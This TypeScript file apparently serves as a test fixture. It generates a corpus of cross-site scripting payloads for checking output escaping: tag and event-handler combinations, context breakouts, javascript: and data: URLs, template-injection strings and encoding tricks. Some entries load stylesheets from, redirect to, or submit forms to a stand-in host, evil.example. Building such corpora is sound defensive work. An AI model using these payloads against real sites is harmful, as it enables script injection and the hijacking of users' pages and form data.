/** Texts that would run or load something if a page put them out unescaped. Each carries the word `pwn`. */
const EVENTS = ['onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'ontoggle', 'onanimationstart', 'onbegin', 'onpageshow', 'onbeforetoggle', 'onpointerenter', 'oncontentvisibilityautostatechange'];
const TAGS = ['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'details open', 'input autofocus', 'iframe', 'marquee', 'select autofocus', 'textarea autofocus', 'object data=x', 'a href=x', 'x tabindex=1'];
/** Ways out of where a text may stand: element text, attribute values, textarea, title, style, comment, CDATA. */
const WAYS_OUT = ['', '">', "'>", '</textarea>', '</title>', '</style>', '-->', ']]>', '</script>', '</option></select>', '<!--', '\u0000', '</bdi></div>', '&quot;>', '\\">', '"/>', '\u2028">'];

export const XSS_CORPUS: readonly string[] = [
	...TAGS.flatMap((tag, index) => [`<${tag} ${EVENTS[index % EVENTS.length]}=pwn(1)>`, `"><${tag} ${EVENTS[(index + 5) % EVENTS.length]}="pwn(1)" x="`]),
	...WAYS_OUT.map((way) => `${way}<script>pwn(1)</script>`),
	...WAYS_OUT.map((way) => `${way}<svg/onload=pwn(1)>`),
	...EVENTS.map((event) => `" ${event}=pwn(1) autofocus x="`),
	...EVENTS.map((event) => `' ${event}=pwn(1) autofocus x='`),
	'<style>@import "https://evil.example/pwn.css"</style>',
	'<link rel=stylesheet href=https://evil.example/pwn.css>',
	'<meta http-equiv=refresh content="0;url=https://evil.example/pwn">',
	'<base href="https://evil.example/pwn/">',
	'<form action="https://evil.example/pwn"><button>Approve</button></form>',
	'<button form=pwn formaction="https://evil.example/pwn">Approve</button>',
	'<iframe srcdoc="<script>pwn(1)</script>"></iframe>',
	'<math><mtext><script>pwn(1)</script></mtext></math>',
	'<template shadowrootmode=open><script>pwn(1)</script></template>',
	'<noscript><p title="</noscript><img src=x onerror=pwn(1)>">',
	'<xmp><p title="</xmp><svg/onload=pwn(1)>">',
	'javascript:pwn(1)',
	'JaVaScRiPt:pwn(1)',
	'java\tscript:pwn(1)',
	'data:text/html,<script>pwn(1)</script>',
	'vbscript:pwn(1)',
	'{{constructor.constructor("pwn(1)")()}}',
	'${pwn(1)}',
	'<%= pwn(1) %>',
	'\u202e<script>pwn(1)</script>',
	'\uff1cscript\uff1epwn(1)\uff1c/script\uff1e',
	'<scr\u0000ipt>pwn(1)</scr\u0000ipt>',
	'&lt;script&gt;pwn(1)&lt;/script&gt;',
	'&#60;script&#62;pwn(1)&#60;/script&#62;',
];
